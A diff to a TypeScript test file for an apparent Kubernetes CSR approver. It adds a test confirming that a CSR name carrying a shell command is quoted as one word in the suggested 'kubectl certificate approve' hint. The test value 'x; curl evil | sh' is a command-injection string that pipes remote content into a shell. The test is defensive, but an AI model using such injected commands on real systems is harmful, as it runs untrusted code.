@@ -27,6 +27,7 @@ const NO_BOB = { name: 'no-bob', when: "csr.subject.commonName == 'bob'", messag
 function start(
   wanted: Wanted,
   requests: RequestsSpec = OWN_NAME,
+  name = 'jane-1',
 ): {
   readonly component: RecordedComponent;
   readonly csr: CertificateSigningRequest;
@@ -35,7 +36,8 @@ function start(
   const component = recordedComponent({ name: 'approver', clock: () => Date.UTC(2026, 10, 21, 9) });
   const policyOf = () => compilePolicy(specOf(requests));
   const handle = createActor({ component, resource: REQUESTS, policyOf });
-  const { csr } = made(wanted);
+  const { csr: asked } = made(wanted);
+  const csr = { ...asked, metadata: { ...asked.metadata, name } };
   component.client.answer(() => ({ metadata: { ...csr.metadata, resourceVersion: '2' } }));
   return { component, csr, handle: () => handle(csr, workload()) };
 }
@@ -106,6 +108,11 @@ test('the Event explains how a person decides, however many rules there are', as
   const { note } = eventBody({ ...event, regarding }, from) as { note: string };
   assert.ok(Buffer.byteLength(note) <= 1024);
   assert.match(note, /kubectl certificate approve jane-1\b/);
+});
+
+test('a name that holds a command is one word of the command that the Event names', async () => {
+  const { event } = await start(BOB, OWN_NAME, 'x; curl evil | sh').handle();
+  assert.match(event?.note ?? '', /approve 'csr\/x; curl evil \| sh';/);
 });
 
 test('a failed expression gives a Warning Event, and nothing is written', async () => {
